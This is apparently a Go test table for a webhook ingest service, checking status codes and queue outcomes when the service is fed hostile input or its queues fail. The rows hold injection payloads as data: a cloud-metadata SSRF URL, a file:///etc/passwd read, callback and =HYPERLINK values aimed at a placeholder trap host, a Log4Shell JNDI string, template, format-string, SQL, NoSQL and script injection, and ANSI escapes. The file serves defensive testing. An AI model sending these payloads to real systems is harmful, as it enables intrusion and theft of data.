package ingesttest

// hostile: words that some other program would act upon, and queues that refuse.
var hostile = []row{
	{"B196 the address of cloud metadata", insert(`"avatar_url": "http://169.254.169.254/latest/meta-data/", "untold": "$trap"`), 200, queued},
	{"B197 addresses to call back", insert(`"SubscribeURL": "$trap", "callback": "$trap", "file": "file:///etc/passwd", "more": "gopher://$trap"`), 200, queued},
	{"B198 ${jndi}", all(insert(`"untold": "${jndi:ldap://x}"`), quiet("jndi")), 200, queued},
	{"B198 {{7*7}}", all(insert(`"untold": "{{7*7}}"`), quiet("7*7", ": 49")), 200, queued},
	{"B198 %s%n", all(insert(`"untold": "%s%n%!d"`), quiet("%s", "%!")), 200, queued},
	{"B198 '; DROP", all(insert(`"untold": "'; DROP TABLE entries; --", "$where": "1"`), quiet("DROP", "$where")), 200, queued},
	{"B198 all of them as a type", all(withEvent(func(string) string { return "${jndi:ldap://x}{{7*7}}%s%n'; DROP" }), quiet("jndi", "7*7", "%s", "DROP")), 200, queued},
	{"B198 all of them in headers", all(header("User-Agent", "${jndi:ldap://x}%s"), header("X-Request-Id", "'; DROP"), quiet("jndi", "DROP")), 200, queued},
	{"B198 all of them in the path", all(target("/${jndi:ldap:x}{{7*7}}%25s'DROP"), quiet("jndi", "7*7", "DROP")), 404, nothing},
	{"B199 <script> and ANSI escapes", all(insert(`"untold": "<script>alert(1)</script>\u001b[31mred"`), quiet("<script>", "\x1b", "[31m")), 200, queued},
	{"B199 ANSI escapes as a type", withEvent(func(e string) string { return `\u001b[31m` + e }), 200, dead},
	{"B200 =HYPERLINK(...) as a name", all(insert(`"untold": "=HYPERLINK(\"$trap\")"`), quiet("HYPERLINK")), 200, queued},
	{"B201 the secret in the body", insert(`"untold": "$secret"`), 200, queued},
	{"B201 the secret as a type", withEvent(func(string) string { return "$secret" }), 200, queued},
	{"B208 signed in production, sent to staging", withKey(secretNamed("production")), X, nothing},

	{"B212 the queue is down", given(QueueDown), 503, nothing},
	{"B212 the dead letters are down and not needed", given(DeadLettersDown), 200, queued},
	{"B213 unusable, and the dead letters are down", all(body(`not json $words`), given(DeadLettersDown)), 503, nothing},
	{"B213 unusable, and the queue is down but not needed", all(body(`not json $words`), given(QueueDown)), 200, dead},
}
